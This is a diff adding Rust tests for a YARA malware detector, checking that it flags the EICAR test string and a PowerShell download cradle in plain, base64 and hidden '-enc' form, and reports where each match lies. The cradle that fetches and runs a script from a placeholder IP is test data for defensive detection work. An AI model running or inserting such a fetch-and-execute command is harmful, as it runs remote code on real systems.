@@ -1,0 +1,162 @@
+use base64::Engine;
+use vedette_core::event::{Event, EventBatchBuilder};
+
+use super::*;
+
+const BUNDLED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara");
+
+/// The EICAR test string, assembled so that no file of the repository holds it whole.
+fn eicar() -> String {
+    [
+        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
+        "EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
+        "!$H+H*",
+    ]
+    .concat()
+}
+
+fn detector(limits: YaraLimits) -> YaraDetector {
+    let set = YaraSet::load(&[PathBuf::from(BUNDLED)], Vec::new()).unwrap();
+    assert!(set.errors.is_empty(), "{:?}", set.errors);
+    YaraDetector::new(set, &[], limits)
+}
+
+fn batch() -> EventBatch {
+    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/s.ps1')";
+    let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
+    let rows = [
+        Event {
+            id: "e0".into(),
+            host_name: Some("h0".into()),
+            payload: Some(format!("upload: {}", eicar()).into_bytes()),
+            ..Event::default()
+        },
+        Event {
+            id: "e1".into(),
+            host_name: Some("h1".into()),
+            process_command_line: Some(format!("cmd /c echo {} > t.txt", b64(eicar().as_bytes()))),
+            ..Event::default()
+        },
+        Event {
+            id: "e2".into(),
+            host_name: Some("h2".into()),
+            process_command_line: Some(format!(
+                "powershell.exe -NoP -W Hidden -enc {}",
+                b64(&utf16)
+            )),
+            ..Event::default()
+        },
+        Event {
+            id: "e3".into(),
+            host_name: Some("h3".into()),
+            fields: vec![("ScriptBlockText".into(), cradle.into())],
+            ..Event::default()
+        },
+        Event {
+            id: "e4".into(),
+            host_name: Some("h4".into()),
+            process_command_line: Some("notepad.exe report.txt".into()),
+            ..Event::default()
+        },
+    ];
+    let mut b = EventBatchBuilder::new();
+    for e in &rows {
+        b.append(e);
+    }
+    EventBatch::new(b.finish().unwrap(), "test", "acme", 0)
+}
+
+#[test]
+fn fields_and_decoded_content_are_scanned_and_alerts_say_where() {
+    let d = detector(YaraLimits::default());
+    assert_eq!(d.rule_count(), 2);
+    let alerts = d.detect(&batch()).unwrap();
+    let got: Vec<(String, String, String)> = alerts
+        .iter()
+        .map(|a| {
+            (
+                a.event_ids[0].clone(),
+                a.rule_id.clone(),
+                a.matched["yara.fields"].clone(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        [
+            (
+                "e0".into(),
+                "eicar_test_file:eicar_test_file".into(),
+                "payload".into()
+            ),
+            (
+                "e1".into(),
+                "eicar_test_file:eicar_test_file".into(),
+                "process.command_line(base64)".into()
+            ),
+            (
+                "e2".into(),
+                "powershell_download_cradle:powershell_download_cradle".into(),
+                "process.command_line(encodedcommand)".into()
+            ),
+            (
+                "e3".into(),
+                "powershell_download_cradle:powershell_download_cradle".into(),
+                "ScriptBlockText".into()
+            ),
+        ]
+    );
+    let a = &alerts[0];
+    assert_eq!(a.kind, DetectionKind::Yara);
+    assert_eq!(a.level, Level::Low);
+    assert_eq!(a.rule_author.as_deref(), Some("Vedette team"));
+    assert_eq!(a.tags, ["test"]);
+    assert_eq!(a.host.as_deref(), Some("h0"));
+    assert_eq!(a.matched["yara.patterns"], "payload: $eicar@36+34");
+    assert!(
+        !a.matched.values().any(|v| v.contains("X5O")),
+        "never the scanned data"
+    );
+    assert_eq!(alerts[2].level, Level::High);
+    assert!(d.stats.decoded.load(Ordering::Relaxed) >= 2);
+    assert_eq!(d.stats.scans.load(Ordering::Relaxed), 7);
+}
+
+#[test]
+fn a_value_past_the_byte_limit_is_cut_and_counted() {
+    let d = detector(YaraLimits {
+        max_scan_bytes: 20,
+        timeout: Duration::from_secs(1),
+    });
+    let alerts = d.detect(&batch()).unwrap();
+    assert!(
+        !alerts.iter().any(|a| a.event_ids[0] == "e0"),
+        "the match lies past the first 20 bytes"
+    );
+    assert!(d.stats.truncated.load(Ordering::Relaxed) >= 1);
+}
+
+#[test]
+fn a_rule_file_that_does_not_compile_is_reported_and_the_rest_load() {
+    let set = YaraSet::compile(&[
+        (
+            "good.yar".into(),
+            "rule good { strings: $a = \"abc\" condition: $a }".into(),
+        ),
+        ("bad.yar".into(), "rule bad { condition: $missing }".into()),
+        (
+            "thor.yar".into(),
+            "rule thor { condition: filename == \"x.exe\" or extension == \".dll\" }".into(),
+        ),
+    ]);
+    assert_eq!(set.files, 2);
+    assert_eq!(set.errors.len(), 1);
+    assert_eq!(set.errors[0].0, PathBuf::from("bad.yar"));
+    assert!(set.errors[0].1.contains("missing"), "{}", set.errors[0].1);
+    assert_eq!(set.rule_count(), 2);
+    assert_eq!(
+        namespace(Path::new("dir/gen-webshells.v2.yar")),
+        "gen_webshells_v2"
+    );
+}
